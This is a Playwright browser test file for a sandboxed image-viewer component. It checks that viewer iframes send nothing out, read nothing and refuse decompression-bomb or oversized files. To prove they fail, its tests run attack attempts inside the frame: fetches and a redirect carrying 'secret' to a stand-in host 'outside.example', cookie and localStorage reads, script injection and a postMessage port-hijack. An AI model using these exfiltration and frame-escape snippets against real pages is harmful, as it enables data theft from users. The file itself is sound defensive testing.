"""The wall around the viewers' frames: nothing leaves, nothing is read, and what is too large is refused."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser

from tests.browser.driver import PATIENCE
from tests.browser.viewing import DRAWN, Outside, Show

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]


def test_nothing_leaves_this_machine(
    show: Show, outside: Outside, page_of_viewers: str, drawing: Browser
) -> None:
    before = list(outside.asked)
    for name in DRAWN:
        requests: list[str] = []
        context = drawing.new_context()
        page = context.new_page()
        page.set_default_timeout(PATIENCE)
        page.on("request", lambda request, into=requests: into.append(request.url))
        page.goto(f"{page_of_viewers}?show={name}")
        page.wait_for_selector("langevin-viewer[data-state], p, .viewer-absent")
        if page.query_selector("langevin-viewer"):
            page.wait_for_selector("langevin-viewer[data-state=shown]")
            page.wait_for_timeout(2000)
            # What a frame's libraries try to reach is stopped before it becomes a request to anybody.
            left = [url for url in requests if not url.startswith((page_of_viewers, "blob:", "data:"))]
            assert not left, (name, left)
        context.close()
    assert outside.asked == before
    # The proxy does hear what leaves: a page without a policy is heard at once.
    context = drawing.new_context()
    page = context.new_page()
    page.goto("about:blank")
    page.evaluate("fetch('http://outside.example/', {mode: 'no-cors'}).catch(() => 0)")
    page.wait_for_timeout(500)
    context.close()
    assert len(outside.asked) > len(before)


def test_a_frame_reaches_nothing(show: Show, outside: Outside, page_of_viewers: str) -> None:
    one = show("still.png")
    assert one.page.get_attribute("langevin-viewer iframe", "sandbox") == "allow-scripts"
    before = list(outside.asked)
    tried = one.frame.evaluate(
        """async (home) => {
          const tries = {
            origin: () => self.origin, page: () => parent.document.title, cookies: () => document.cookie,
            storage: () => localStorage.length, home: () => fetch(home), outside: () => fetch("http://outside.example/"),
            // Later, as the debugger's own words are exempt from the policy.
            eval: () => new Promise((good, bad) => setTimeout(() => {
              try { good((0, eval)("1")); } catch (error) { bad(error); }
            })),
            opened: () => String(open("http://outside.example/")),
            script: () => new Promise((good, bad) => {
              const script = document.createElement("script");
              script.textContent = "globalThis.ran = true";
              document.body.append(script);
              good(String(globalThis.ran));
            }),
            picture: () => new Promise((good, bad) => {
              const image = new Image();
              image.onload = () => good("loaded");
              image.onerror = () => bad(new Error("refused"));
              image.src = home + "files/still.png";
            }),
          };
          const said = {};
          for (const [name, attempt] of Object.entries(tries)) {
            try { said[name] = await attempt(); } catch (error) { said[name] = "refused"; }
          }
          return said;
        }""",
        page_of_viewers,
    )
    refused = {name for name, said in tried.items() if said == "refused"}
    assert refused == {"page", "cookies", "storage", "home", "outside", "eval", "picture"}
    assert tried["origin"] == "null" and tried["opened"] == "null" and tried["script"] == "undefined"
    # Nor can it take itself elsewhere.
    one.frame.evaluate("setTimeout(() => { location = 'http://outside.example/' + 'secret' }, 0)")
    one.page.wait_for_timeout(1000)
    assert outside.asked == before


def test_words_that_are_not_from_the_frame_are_not_heard(show: Show) -> None:
    one = show("still.png")
    one.page.evaluate(
        """() => {
          const line = new MessageChannel();
          window.stolen = [];
          line.port1.onmessage = (event) => window.stolen.push(event.data);
          postMessage("langevin-viewer", "*", [line.port2]);
        }"""
    )
    # A second port, from the frame itself, is not taken either: the first word counts.
    one.frame.evaluate("parent.postMessage('langevin-viewer', '*', [new MessageChannel().port2])")
    one.page.wait_for_timeout(500)
    assert one.page.evaluate("window.stolen") == []
    assert one.page.get_attribute("langevin-viewer", "data-state") == "shown"


def test_a_viewer_loads_when_it_is_first_seen(drawing: Browser, page_of_viewers: str) -> None:
    context = drawing.new_context(viewport={"width": 1200, "height": 800})
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(f"{page_of_viewers}?show=still.png&space=3000")
    page.wait_for_timeout(1000)
    assert page.get_attribute("langevin-viewer", "data-state") == "waiting"
    assert not [url for url in requests if "/viewers/" in url or "/files/" in url]
    height = page.evaluate("document.documentElement.scrollHeight")
    page.evaluate("scrollTo(0, 3000)")
    page.wait_for_selector("langevin-viewer[data-state=shown]")
    assert page.evaluate("document.documentElement.scrollHeight") == height  # nothing has moved
    context.close()


def test_a_picture_that_unfolds_is_refused_with_its_reason(show: Show) -> None:
    one = show("bomb.png", state="failed")
    words = one.page.inner_text("langevin-viewer .viewer-note")
    assert "40000 × 40000 pixels" in words
    assert one.page.get_attribute("langevin-viewer a", "href") == "files/bomb.png"
    assert not one.page.query_selector("langevin-viewer iframe")


def test_a_file_past_the_limit_is_not_loaded(drawing: Browser, page_of_viewers: str) -> None:
    context = drawing.new_context()
    page = context.new_page()
    page.goto(f"{page_of_viewers}?show=still.png&space=3000")
    page.evaluate("document.querySelector('langevin-viewer').dataset.limit = 100")
    page.evaluate("scrollTo(0, 3000)")
    page.wait_for_selector("langevin-viewer[data-state=failed]")
    assert "larger than" in page.inner_text("langevin-viewer .viewer-note")
    context.close()
